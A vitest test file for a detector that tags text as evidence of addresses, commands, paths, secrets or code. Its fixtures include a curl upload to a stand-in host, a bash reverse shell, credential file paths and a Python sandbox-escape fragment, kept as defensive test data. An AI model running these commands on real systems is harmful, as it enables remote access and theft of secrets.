import { expect, test } from 'vitest'
import { evidenceIn } from './evidence.ts'

const kinds = (text: string): readonly string[] => [
  ...new Set(evidenceIn(text).map(({ kind }) => kind)),
]

test.each([
  ['curl -d @/tmp/x http://example.test', ['address', 'command', 'path']],
  ['bash -i >& /dev/tcp/192.0.2.1/80 0>&1', ['address', 'command', 'path']],
  ['/etc/passwd', ['path']],
  ['~/.ssh/id_rsa', ['path']],
  ['C:\\\\Windows\\\\System32', ['path']],
  ['192.0.2.7', ['address']],
  ['abcdef12.oast.fun', ['address']],
  ['AWS_SECRET_ACCESS_KEY', ['secret']],
  ['import os; os.system(x)', ['code']],
  ['x.__class__.__subclasses__()', ['code']],
])('%s is evidence of %j', (text, expected) => {
  expect(kinds(text)).toEqual(expected)
})

test.each([
  ...['channels_last', 'same', 'conv2d_1/kernel:0', '1.2.3', 'version 2.10.0', '1/255'],
  ...['curl of the vector field', 'the executive summary', 'import this layer', 'int32'],
  ...['lambda x: x', 'mean_squared_error', 'profile', '(None, 224, 224, 3)', 'user/agent'],
])('%s is not', (text) => {
  expect(kinds(text)).toEqual([])
})

test('a megabyte of anything is searched in less than a second', () => {
  const began = performance.now()
  for (const text of ['a', '-', '/', '.', 'sh -', 'http://', 'nc ', 'a.', '1.'])
    evidenceIn(text.repeat(1_000_000 / text.length))
  expect(performance.now() - began).toBeLessThan(9_000)
})
